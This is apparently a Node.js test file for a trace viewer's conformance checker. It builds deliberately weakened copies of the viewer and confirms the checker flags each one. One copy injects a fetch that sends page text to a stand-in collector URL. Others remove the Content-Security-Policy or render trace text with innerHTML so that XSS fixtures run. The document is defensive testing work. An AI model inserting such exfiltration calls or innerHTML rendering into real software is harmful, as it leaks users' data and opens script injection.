// The conformance kit for viewers (scripts/check-viewer) on the reference viewer, shipped in a
// bundle directory, which must pass; and on evil copies of it, each of which must fail, saying
// why: one fetch to another origin (blocked by the viewer's Content-Security-Policy, but tried), the
// same without the policy (the request leaves), and trace text rendered as HTML without the policy
// (the hostile fixture's strings run). The React template's built app is checked by
// scripts/test-react-template.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { BIN, REPO, TIMEOUT, fixture } from './viewer-harness.js';

const KIT = path.join(REPO, 'scripts/check-viewer');
/** Where the evil copies send what they read: an origin that is neither the viewer's nor the bundle's. */
const ELSEWHERE = 'http://127.0.0.1:9/collect';

let tmp;
let bundle;

before(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tlparse-conformance-'));
  bundle = path.join(tmp, 'bundle');
  execFileSync(BIN, [fixture('torch-2.15/graph_breaks'), '-o', bundle, '-q'], { stdio: ['ignore', 'ignore', 'inherit'] });
  // As in viewer-harness.js: VIEWER_FROM_REPO=1 checks the viewer as it is in the repository.
  if (process.env.VIEWER_FROM_REPO) {
    fs.cpSync(path.join(REPO, 'viewers/reference-html'), bundle, { recursive: true });
    fs.cpSync(path.join(REPO, 'viewers/bundle-loader/src/bundle-loader.js'), path.join(bundle, 'viewer/bundle-loader.js'));
  }
});
after(() => { if (tmp && !process.env.KEEP_TMP) fs.rmSync(tmp, { recursive: true, force: true }); });

/** Runs the kit on `dir`; resolves to {status, out} (stdout and stderr together). */
function kit(dir, ...args) {
  return new Promise((resolve, reject) => {
    const child = spawn(KIT, [dir, ...args], { env: { ...process.env, TLPARSE_BUILD: BIN }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => { out += d; });
    child.stderr.on('data', (d) => { out += d; });
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, out }));
  });
}

/** A copy of the bundle with `edits` applied: {file: text → text}. */
function evilCopy(name, edits) {
  const dir = path.join(tmp, name);
  fs.cpSync(bundle, dir, { recursive: true });
  for (const [file, edit] of Object.entries(edits)) {
    const at = path.join(dir, file);
    const before = fs.readFileSync(at, 'utf8');
    const after = edit(before);
    assert.notEqual(after, before, `${name}: the edit of ${file} changed nothing`);
    fs.writeFileSync(at, after);
  }
  return dir;
}

/** One fetch to another origin, with what the page shows, once it is shown. */
const addFetch = (js) => `${js}\nsetTimeout(() => fetch('${ELSEWHERE}?' + encodeURIComponent(document.body.innerText.slice(0, 200))).catch(() => {}), 500);\n`;
/** index.html and boot.js without the policy. */
const noPolicy = {
  'index.html': (html) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, ''),
  'viewer/boot.js': (js) => js.replace('document.head.appendChild(policy);', ''),
};

test('the reference viewer passes', { timeout: TIMEOUT * 2 }, async () => {
  const { status, out } = await kit(bundle);
  console.log(out);
  assert.equal(status, 0, out);
  assert.match(out, /^check-viewer: pass$/m);
  // Its own bundle and each fixture bundle on the other origin, the hostile one included.
  for (const start of ['its own bundle \\(same origin\\)', 'hostile', 'graph_breaks', 'failures', 'ranks']) {
    assert.match(out, new RegExp(`^  ok {4}${start} \\(\\d+ pages\\)$`, 'm'));
  }
});

// The evil copies are checked at once (the kit mostly waits on pages), each on one fixture.
describe('evil copies of the reference viewer fail, saying why', () => {
  const runs = {};
  before(() => {
    const quick = ['--only', 'graph_breaks', '--pages', '2'];
    runs.fetch = kit(evilCopy('evil-fetch', { 'viewer/app.js': addFetch }), ...quick);
    runs.fetchNoPolicy = kit(evilCopy('evil-fetch-no-policy', { ...noPolicy, 'viewer/app.js': addFetch }), ...quick);
    runs.html = kit(evilCopy('evil-html', {
      ...noPolicy,
      'viewer/dom.js': (js) => js.replace('document.createTextNode(String(child))',
        "Object.assign(document.createElement('span'), { innerHTML: String(child) })"),
    }), '--only', 'hostile', '--pages', '3');
  });

  test('one fetch to another origin: its policy blocks it, the kit names it', { timeout: TIMEOUT }, async () => {
    const { status, out } = await runs.fetch;
    assert.equal(status, 1, out);
    assert.match(out, /tried to reach another origin: http:\/\/127\.0\.0\.1:9\/collect\S* \(blocked by the page's Content-Security-Policy, connect-src\)/);
    assert.match(out, /^check-viewer: FAIL: \d+ problems \(above\)$/m);
    assert.doesNotMatch(out, /no Content-Security-Policy stops/); // the policy itself is there
  });

  test('the same without its policy: the request leaves, and no policy stops it', { timeout: TIMEOUT }, async () => {
    const { status, out } = await runs.fetchNoPolicy;
    assert.equal(status, 1, out);
    assert.match(out, /request to another origin: http:\/\/127\.0\.0\.1:9\/collect\?/);
    assert.match(out, /no Content-Security-Policy stops fetch, sendBeacon, WebSocket, image, script, stylesheet, frame to another origin \(http:\/\/127\.0\.0\.1:\d+\); the page has no policy/);
  });

  test('trace text rendered as HTML, without a policy: the hostile strings run', { timeout: TIMEOUT }, async () => {
    const { status, out } = await runs.html;
    assert.equal(status, 1, out);
    assert.match(out, /a trace string ran as script \(window\.__pwned is set\)/);
    assert.match(out, /a trace string ran as script \(it changed the title\)/);
    assert.match(out, /a dialog opened \(alert: PWNED\): a trace string ran as script/);
    assert.match(out, /an element made from trace text: <img src="x"/);
  });
});
